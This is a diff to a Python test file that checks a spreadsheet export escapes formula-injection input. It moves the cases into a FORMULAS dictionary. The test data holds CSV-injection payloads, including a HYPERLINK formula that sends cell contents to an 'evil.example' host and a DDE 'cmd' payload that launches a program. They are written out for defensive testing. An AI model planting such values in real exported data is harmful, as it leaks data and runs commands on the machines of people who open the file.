@@ -97,35 +97,35 @@ def test_existing_columns_keep_their_places(lead: Client, company: Company) -> N
     )
 
 
-@pytest.mark.parametrize(
-    ("evil", "cell"),
-    [
-        (
-            '=HYPERLINK("https://evil.example/?"&A1,"Open")',
-            '\'=HYPERLINK("https://evil.example/?"&A1,"Open")',
-        ),
-        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
-        ("-2+3", "'-2+3"),
-        ("@SUM(A1)", "'@SUM(A1)"),
-        # With the tab as separator, the second cell begins after it.
-        ("\t=1", "'\t'=1"),
-        ("\r=1", "'\r'=1"),
-        ("\n=1", "'\n'=1"),
-        ("  =1", "'  =1"),
-        ("Hola;=1+1;adios", "Hola;'=1+1;adios"),
-        ("a;@SUM(A1)|=2\t+3", "a;'@SUM(A1)|'=2\t'+3"),
-        ("a; \u00a0-1", "a;' \u00a0-1"),
-        ('=1+1"', "'=1+1\""),
-        ("\uff1d1", "'\uff1d1"),
-    ],
-)
-def test_formulas_of_companies_are_escaped(lead: Client, evil: str, cell: str) -> None:
-    company = build.company(name=evil)
-    build.ticket(company, comments=evil, carrier_name=evil)
+# Text of a company and the cell that it becomes.
+FORMULAS = {
+    '=HYPERLINK("https://evil.example/?"&A1,"Open")': (
+        '\'=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    ),
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(A1)": "'@SUM(A1)",
+    # With the tab as separator, the second cell begins after it.
+    "\t=1": "'\t'=1",
+    "\r=1": "'\r'=1",
+    "\n=1": "'\n'=1",
+    "  =1": "'  =1",
+    "Hola;=1+1;adios": "Hola;'=1+1;adios",
+    "a;@SUM(A1)|=2\t+3": "a;'@SUM(A1)|'=2\t'+3",
+    "a; \u00a0-1": "a;' \u00a0-1",
+    '=1+1"': "'=1+1\"",
+    "\uff1d1": "'\uff1d1",
+}
 
-    (row,) = exported(lead)
 
-    assert (row["company"], row["text"], row["carrier"]) == (cell,) * 3
+def test_formulas_of_companies_are_escaped(lead: Client) -> None:
+    for evil in FORMULAS:
+        build.ticket(build.company(name=evil), comments=evil, carrier_name=evil)
+
+    rows = exported(lead)
+
+    cells = [(row["company"], row["text"], row["carrier"]) for row in reversed(rows)]
+    assert cells == [(cell,) * 3 for cell in FORMULAS.values()]
 
 
 def test_leaves_other_text_alone(lead: Client, company: Company) -> None:
